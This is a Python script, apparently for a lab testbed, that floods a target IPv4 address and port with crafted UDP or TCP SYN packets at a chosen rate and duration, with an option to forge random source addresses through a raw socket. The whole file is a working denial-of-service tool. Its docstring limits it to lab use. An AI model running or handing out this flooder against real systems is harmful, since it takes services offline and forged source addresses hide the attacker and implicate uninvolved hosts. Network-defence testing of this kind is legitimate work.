"""A bounded flood, from random sources or from one: attack_flood.py KIND ADDRESS PORT PPS SECONDS [spoofed].

KIND is `udp` or `syn`; IPv4. Tells on standard output, as JSON lines, when it began (monotonic) and how many it sent.
The namespace must let strange sources out. For the lab only; standard library only.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time
from random import Random

BURST_S = 0.01
UDP, TCP = 17, 6


def packets(kind: str, to: str, port: int, *, spoofed: bool, count: int = 4096) -> list[bytes]:
    """Return packets that are sent again and again: each from an address of its own, or all from one."""
    luck, target, made = Random(port), socket.inet_aton(to), []
    for number in range(count):
        source = luck.randrange(0x01000000, 0xDF000000) if spoofed else 0x0A090002
        ends = struct.pack(">I", source) + target
        if kind == "udp":
            rest = struct.pack(">HHHH", 1024 + number, port, 8, 0)
        else:
            rest = struct.pack(">HHIIBBHHH", 1024 + number, port, number, 0, 0x50, 2, 0xFFFF, 0, 0)
        number_of = UDP if kind == "udp" else TCP
        made.append(struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(rest), 0, 0, 64, number_of, 0) + ends + rest)
    return made


def flood(kind: str, to: str, port: int, pps: int, seconds: float, *, spoofed: bool) -> int:
    """Send so many a second for so long; return how many the kernel took."""
    ready, sent, at = packets(kind, to, port, spoofed=spoofed), 0, 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
        begun_s = time.monotonic()
        print(json.dumps({"kind": "begun", "at_s": begun_s}), flush=True)
        while (now_s := time.monotonic()) < begun_s + seconds:
            due = int((now_s - begun_s + BURST_S) * pps)
            # what a busy machine could not send in time is not sent at once later
            for _ in range(min(due - at, int(pps * BURST_S * 3))):
                try:
                    raw.sendto(ready[sent % len(ready)], (to, 0))
                    sent += 1
                except OSError:
                    time.sleep(0.0005)
            at = due
            time.sleep(max(0.0, begun_s + at / pps - time.monotonic()))
    return sent


if __name__ == "__main__":
    words = sys.argv[1:]
    number_sent = flood(
        words[0], words[1], int(words[2]), int(words[3]), float(words[4]), spoofed="spoofed" in words[5:]
    )
    print(json.dumps({"kind": "ended", "sent": number_sent, "at_s": time.monotonic()}), flush=True)
